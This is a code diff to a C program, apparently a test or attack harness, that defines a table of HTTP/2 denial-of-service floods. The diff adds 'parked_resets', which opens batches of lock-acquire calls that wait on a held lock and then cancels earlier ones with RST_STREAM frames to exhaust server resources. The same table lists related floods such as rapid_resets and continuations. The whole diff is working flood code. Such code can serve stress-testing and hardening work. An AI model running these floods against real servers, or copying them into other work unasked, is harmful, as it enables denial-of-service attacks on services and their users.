@@ -5,7 +5,15 @@
 
 #include "attack.h"
 
-enum { MANY = 2000, OPEN_STREAMS = 250, ENTRY_BYTES = 4000, FRAME_MAX = 16384, EMPTY_BLOCKS = 200000 };
+enum {
+    MANY = 2000,
+    OPEN_STREAMS = 250,
+    ENTRY_BYTES = 4000,
+    FRAME_MAX = 16384,
+    EMPTY_BLOCKS = 200000,
+    PARKED_AT_A_TIME = 100,
+    WAIT_MS = 60000
+};
 
 static uint32_t take_id(flood *f)
 {
@@ -158,6 +166,25 @@ static bool rapid_resets(bytes *b, flood *f)
     return false;
 }
 
+/* Calls that wait for a lock which another holds, and are reset once they do. */
+static bool parked_resets(bytes *b, flood *f)
+{
+    static const h2_call call = {.path = PATH_ACQUIRE, .token = TARGET_ATTACKERS_TOKEN};
+    bytes request = {0};
+
+    for (size_t i = 0; i < PARKED_AT_A_TIME; i++) {
+        uint32_t id = take_id(f);
+        request.len = 0;
+        pack_waiting_acquire(&request, id, WAIT_MS, 0);
+        h2_put_call(b, id, &call, 0);
+        h2_put_message(b, id, request.data, request.len, false, NGHTTP2_FLAG_END_STREAM);
+        if (id > 2 * PARKED_AT_A_TIME)
+            h2_put_frame(b, NGHTTP2_RST_STREAM, 0, id - 2 * PARKED_AT_A_TIME, "\0\0\0\10", 4);
+    }
+    bytes_free(&request);
+    return false;
+}
+
 /* A window of 0 for each stream is an error of the stream: the server resets. */
 static bool provoked_resets(bytes *b, flood *f)
 {
@@ -289,6 +316,7 @@ const attack floods_h2[] = {
     {.name = "goaways", .wires = ON_H2, .fill = goaways},
     {.name = "continuations", .wires = ON_H2, .fill = continuations},
     {.name = "rapid_resets", .wires = ON_H2, .fill = rapid_resets},
+    {.name = "parked_resets", .wires = ON_H2, .fill = parked_resets, .prepare = hold_the_lock},
     {.name = "provoked_resets", .wires = ON_H2, .fill = provoked_resets},
     {.name = "refused_calls", .wires = ON_H2, .fill = refused_calls},
     {.name = "unknown_methods", .wires = ON_H2, .fill = unknown_methods},
